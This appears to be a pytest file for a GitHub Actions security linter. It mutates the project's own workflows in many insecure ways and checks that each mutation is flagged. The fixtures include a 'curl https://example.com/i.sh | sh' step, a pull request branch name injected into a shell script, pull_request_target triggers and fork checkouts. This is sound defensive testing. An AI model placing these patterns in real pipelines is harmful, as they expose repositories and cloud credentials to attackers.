"""The workflows keep to the policy, and the policy finds what breaks it."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from tests.command import ROOT
from tests.documents import DOCUMENTS, guide
from tests.workflows.policy import RULES, Workflow, isolated, offences, tools

TEMPLATES = ROOT / "identity_reconciler/templates/github/workflows"
OURS = sorted(
    path
    for folder in (".github/workflows", ".github/actions", TEMPLATES)
    for path in (ROOT / folder).rglob("*.yml")
)
SHA = "08c6903cd8c0fde910a37f88322edcfb5dd907a8"
READS = "      contents: read # To check the YAML out.\n"
CHECKOUT = f"      - uses: actions/checkout@{SHA} # v5.0.0\n"
COMMENTING = "      pull-requests: write # For the comment and the labels.\n    steps:\n"
TOOL = "      - uses: $/.github/actions/identity-reconciler\n"
CALL = "    uses: $/.github/workflows/plan-pull-request.yml\n"
PYTHON = '"$RUNNER_TEMP/tool/bin/python" -I -m identity_reconciler'
PIP = "-I -m pip --isolated install"
RUN = "        run: >-\n"


@dataclass(frozen=True)
class Bad:
    """One of our workflows, with one thing changed for the worse."""

    rule: str
    file: str
    old: str
    new: str

    def text(self) -> str:
        """Return the workflow as somebody might have written it."""
        text = (ROOT / self.file).read_text(encoding="utf-8")
        assert self.old in text, f"{self.file} has changed: {self.old}"
        return text.replace(self.old, self.new, 1)


PLAN, APPLY, DRIFT, EXPIRE, CALLED, RELEASE = (
    f".github/workflows/{name}.yml"
    for name in ("plan", "apply", "drift", "expire", "plan-pull-request", "release")
)
APPROVED = "identity_reconciler/templates/github/workflows/apply-approved.yml"
ACTION = ".github/actions/identity-reconciler/action.yml"
SAME = "github.event.pull_request.head.repo.full_name == github.repository"
ON_MAIN = " && github.ref == 'refs/heads/main'"
DEPTH = "          fetch-depth: 0 # To see that the commit descends from the one applied last.\n"
BAD = {
    "the rights of the base for a stranger's pull request": Bad(
        "trigger", PLAN, "  pull_request:\n", "  pull_request_target:\n"
    ),
    "a run of another workflow starts it": Bad(
        "trigger", DRIFT, "  workflow_dispatch:\n", "  workflow_run:\n"
    ),
    "everybody's comment starts it": Bad(
        "trigger", EXPIRE, "  workflow_dispatch:\n", "  issue_comment:\n"
    ),
    "the default permissions": Bad("top-permissions", PLAN, "permissions: {}\n", ""),
    "everything may be read": Bad(
        "top-permissions", APPLY, "permissions: {}\n", "permissions: read-all\n"
    ),
    "a job that may do everything": Bad(
        "job-permissions",
        APPROVED,
        "    permissions:\n      actions: read # To fetch the plan of the pull request.\n"
        "      pull-requests: read # To find the pull request of the commit.\n",
        "    permissions: read-all\n",
    ),
    "a job that inherits": Bad(
        "job-permissions", PLAN, f"    permissions:\n{READS}    steps:\n", "    steps:\n"
    ),
    "an action by its tag": Bad("pins", PLAN, f"checkout@{SHA} # v5.0.0", "checkout@v5"),
    "a commit that does not say which version": Bad(
        "pins", APPLY, f"checkout@{SHA} # v5.0.0", f"checkout@{SHA}"
    ),
    "an image instead of an action": Bad(
        "pins", DRIFT, TOOL.strip(" -\n"), "uses: docker://example/tool:latest"
    ),
    "a branch name in a script": Bad(
        "script-injection", PLAN, '"$NUMBER"', "${{ github.event.pull_request.head.ref }}"
    ),
    "an output of another job in a script": Bad(
        "script-injection",
        APPROVED,
        "--approved approved/plan.json",
        "${{ needs.approved.outputs.x }}",
    ),
    "a script that sets the environment": Bad(
        "file-commands", ACTION, 'cd "$RUNNER_TEMP"\n', 'echo "A=b" >> "$GITHUB_ENV"\n'
    ),
    "a token left by the checkout": Bad(
        "checkout-credentials", APPLY, "          persist-credentials: false\n", ""
    ),
    "a checkout of a stranger's commit": Bad(
        "foreign-checkout",
        CALLED,
        "          fetch-depth: 2 # HEAD^1 is what the pull request would be merged into.\n",
        "          ref: ${{ github.event.pull_request.head.sha }}\n",
    ),
    "a machine of one's own": Bad("runner", PLAN, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "a machine that changes by itself": Bad(
        "runner", DRIFT, "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"
    ),
    "a job without an end": Bad("timeout", APPLY, "    timeout-minutes: 120\n", ""),
    "a key kept as a secret": Bad(
        "secrets", APPLY, "${{ vars.AWS_REGION || 'us-east-1' }}", "${{ secrets.AWS_REGION }}"
    ),
    "where notices go, told to a job of any branch": Bad(
        "notices",
        DRIFT,
        "    environment: identity-notify # Main only; it knows where notices go.\n",
        "",
    ),
    "another secret where notices go": Bad(
        "secrets", APPLY, "secrets.IDENTITY_NOTIFY_URL", "secrets.AWS_SECRET_ACCESS_KEY"
    ),
    "a job with a role that comments": Bad(
        "aws-and-writing",
        DRIFT,
        READS + "      id-token: write # To take the role that reads.\n",
        READS + "      id-token: write # To take the role that reads.\n      issues: write\n",
    ),
    "a commenting job that runs the repository": Bad(
        "code-and-writing",
        PLAN,
        COMMENTING + TOOL,
        COMMENTING + TOOL + CHECKOUT + "        with: {persist-credentials: false}\n",
    ),
    "a commenting job with an action of the pull request": Bad(
        "code-and-writing", PLAN, COMMENTING, f"{COMMENTING}      - uses: $/.github/actions/other\n"
    ),
    "a commenting job that knows a role": Bad(
        "code-and-writing",
        PLAN,
        "          GITHUB_TOKEN: ${{ github.token }}\n",
        "          GITHUB_TOKEN: ${{ github.token }}\n"
        "          ROLE_ARN: ${{ vars.IDENTITY_PLAN_ROLE_ARN }}\n",
    ),
    "a fork's plan with a role": Bad("forks", PLAN, f"    if: {SAME}\n", ""),
    "a fork's plan with a role, called": Bad("forks", CALLED, f"    if: {SAME}\n", ""),
    "a fork's comment": Bad(
        "forks", PLAN, f"github.event.action != 'closed' &&\n      {SAME} }}}}", "true }}"
    ),
    "a role on any branch": Bad("branch", DRIFT, ON_MAIN, ""),
    "an expiry on any branch": Bad("branch", EXPIRE, ON_MAIN, ""),
    "an apply of every branch": Bad("pushes", APPROVED, "branches: [main]", 'branches: ["**"]'),
    "an apply that nobody reviews": Bad(
        "guarded-apply",
        APPLY,
        "    environment: identity # Required reviewers, and main only.\n",
        "",
    ),
    "an apply that is cancelled half-way": Bad(
        "guarded-apply",
        EXPIRE,
        "      cancel-in-progress: false",
        "      cancel-in-progress: true",
    ),
    "an expiry in a turn of any name": Bad(
        "own-turns",
        EXPIRE,
        "    concurrency:\n"
        "      group: identity-expire # Its own: never behind an apply that waits for reviewers.\n"
        "      cancel-in-progress: false\n",
        "",
    ),
    "a plan from before the last apply": Bad(
        "own-turns",
        APPLY,
        "    environment: identity # Required reviewers, and main only.\n",
        "    environment: identity # Required reviewers, and main only.\n"
        "    concurrency: {group: identity-apply, cancel-in-progress: false}\n",
    ),
    "an apply that does not know what came before": Bad("whole-history", APPLY, DEPTH, ""),
    "an expiry that does not know what came before": Bad(
        "whole-history", EXPIRE, DEPTH, DEPTH.replace(" 0 ", " 1 ")
    ),
    "an expiry that fails because somebody applies": Bad(
        "waits-a-little", EXPIRE, " --wait 30", ""
    ),
    "two applies at a time": Bad(
        "own-turns", APPROVED, "group: identity-apply", "group: identity-apply-${{ github.sha }}"
    ),
    "an expiry that waits for reviewers": Bad(
        "own-turns", EXPIRE, "group: identity-expire", "group: identity-apply"
    ),
    "a pull request's own plan with a role": Bad(
        "roles-of-main",
        PLAN,
        CALL,
        "    runs-on: ubuntu-24.04\n    timeout-minutes: 60\n"
        f"    steps:\n      - run: >-\n          {PYTHON} plan\n",
    ),
    "a role for the called workflow as the pull request has it": Bad(
        "roles-of-main",
        PLAN,
        CALL,
        f"{CALL}    with: {{command: plan}}\n",
    ),
    "a called workflow that does as it is told": Bad(
        "roles-of-main",
        CALLED,
        "    outputs:\n",
        "    inputs: {command: {type: string}}\n    outputs:\n",
    ),
    "a called workflow of a branch": Bad(
        "pins", PLAN, CALL, "    uses: corp/identity/.github/workflows/plan-pull-request.yml@work\n"
    ),
    "a run that is cancelled while it applies": Bad(
        "cancelling", APPROVED, "  cancel-in-progress: false\n", "  cancel-in-progress: true\n"
    ),
    "runs without turns": Bad("cancelling", DRIFT, "concurrency:\n", "defaults:\n"),
    "any plan is applied": Bad("bound-plan", APPLY, ' --expect-digest "$DIGEST"', ""),
    "an old plan is applied": Bad("bound-plan", APPLY, "--expect-head --expect", "--expect"),
    "a digest from the artifact itself": Bad(
        "bound-plan", APPLY, "${{ needs.plan.outputs.digest }}", "${{ steps.read.outputs.digest }}"
    ),
    "the plan of a pull request into any branch": Bad("found-plan", APPROVED, "--base main ", ""),
    "the plan of any workflow": Bad("found-plan", APPROVED, "--workflow plan.yml ", ""),
    "the plan of whatever the last commit is": Bad(
        "found-plan", APPROVED, "COMMIT: ${{ github.sha }}", "COMMIT: HEAD"
    ),
    "a journal of successes only": Bad("journal", EXPIRE, "        if: always()\n", ""),
    "names kept for as long as GitHub likes": Bad(
        "retention",
        APPLY,
        "          retention-days: 1 # It holds names, and is valid for a day.\n",
        "",
    ),
    "a plan from another run": Bad(
        "other-runs",
        APPLY,
        "          name: plan\n          path: plan\n",
        "          name: plan\n          path: plan\n          run-id: 7\n",
    ),
    "a cache that a fork may fill": Bad(
        "caches",
        ACTION,
        '        python-version: "3.13"\n',
        '        python-version: "3.13"\n        cache: pip\n',
    ),
    "a tool of any content": Bad(
        "tools", RELEASE, f"{PIP} --quiet --no-index --no-deps", f"{PIP} --quiet --no-deps"
    ),
    "a tool that somebody else installs": Bad(
        "tools", PLAN, f"          {PYTHON}\n", "          pipx run identity_reconciler==0.1.0\n"
    ),
    "dependencies of any content": Bad("tools", ACTION, "--require-hashes ", ""),
    "dependencies that run code to be built": Bad("tools", ACTION, "--only-binary :all: ", ""),
    "a script from the network": Bad(
        "tools", APPROVED, RUN, "        run: |\n          curl https://example.com/i.sh | sh\n"
    ),
    "a venv.py of the checkout": Bad("isolated", ACTION, "python -I -m venv", "python -m venv"),
    "a pip.py of the checkout": Bad(
        "isolated", RELEASE, f"{PIP} --quiet --no-index", "pip install --no-index"
    ),
    "a pip.conf of the home": Bad("isolated", ACTION, "-m pip --isolated", "-m pip"),
    "a module of the checkout beside a role": Bad(
        "isolated", EXPIRE, " -I -m identity", " -m identity"
    ),
    "a script that starts Python as it likes": Bad(
        "isolated", DRIFT, PYTHON, '"$RUNNER_TEMP/tool/bin/identity-reconciler"'
    ),
    "a build of the checkout": Bad("isolated", RELEASE, " -I -m build", " -m build"),
    "a tool installed when there are credentials": Bad(
        "installed-first",
        DRIFT,
        "      - id: plan\n",
        f"{TOOL}      - id: plan\n",
    ),
    "a Python chosen where the checkout is": Bad(
        "installed-first",
        CALLED,
        "      - id: plan\n",
        "      - uses: actions/setup-python@e797f83bcb11b83ae66e0230d6156d7c80228e7c # v6.0.0\n"
        "      - id: plan\n",
    ),
}


class TestOurs:
    """Every workflow and action of the repository, and every one we write for others."""

    @pytest.mark.parametrize("path", OURS, ids=lambda path: str(path.relative_to(ROOT)))
    def test_keeps_to_the_policy(self, path: Path) -> None:
        assert offences(path.read_text(encoding="utf-8")) == set()


class TestShown:
    """Commands that the guides show for other services keep to what is said about commands."""

    def test_on_gitlab(self) -> None:
        (text,) = [text for text in guide("continuous-integration").code("yml") if "gitlab" in text]
        # BaseLoader builds nothing but text.
        jobs = yaml.load(text, Loader=yaml.BaseLoader)  # noqa: S506
        lines = [
            line
            for job in jobs.values()
            if isinstance(job, dict)
            for line in (*job.get("before_script", ()), *job.get("script", ()))
        ]
        assert len(lines) > 15
        assert self.offending(lines) == []
        assert jobs["apply"]["resource_group"] != jobs["expire"]["resource_group"]
        assert "@sha256:" in jobs["default"]["image"]

    @pytest.mark.parametrize(
        ("old", "new"),
        [
            ("group: identity-apply-${{ matrix.instance }}", "group: identity-apply"),
            ("environment: identity-${{ matrix.instance }}", "environment: identity"),
            ('"$DIRECTORY" --approved', '"$DIRECTORY" --timings'),
        ],
    )
    def test_each_of_several_instances_has_its_own_turn(self, old: str, new: str) -> None:
        (text,) = [one for one in guide("fleet").code("yml") if "workflows/apply.yml" in one]
        assert offences(text) == set()
        assert "own-turns" in offences(text.replace(old, new))

    def test_in_a_shell(self) -> None:
        """Where the digest of a plan is read, credentials are near; a function is built to last."""
        found = [
            line
            for document in DOCUMENTS.values()
            for script in document.code("sh")
            for line in script.splitlines()
            if "json.load" in line or "--target" in line
        ]
        assert len(found) == 2
        assert self.offending(found) == []

    def test_others_are_found(self) -> None:
        for line in ("pip install x", "python3 -c 'import json'", "pipx run x", "python -m venv x"):
            assert self.offending([line]) == [line]

    @staticmethod
    def offending(lines: list[str]) -> list[str]:
        job = {"steps": [{"run": line} for line in lines]}
        workflow = Workflow("", {"jobs": {"job": job}})
        return sorted({*tools(workflow), *isolated(workflow)})


class TestBad:
    """What somebody might do to a workflow is found, by the rule that is about it."""

    @pytest.mark.parametrize("name", BAD)
    def test_is_caught(self, name: str) -> None:
        assert offences(BAD[name].text()) == {BAD[name].rule}

    def test_every_rule_is_proven(self) -> None:
        assert {bad.rule for bad in BAD.values()} == {
            rule.__name__.replace("_", "-") for rule in RULES
        }
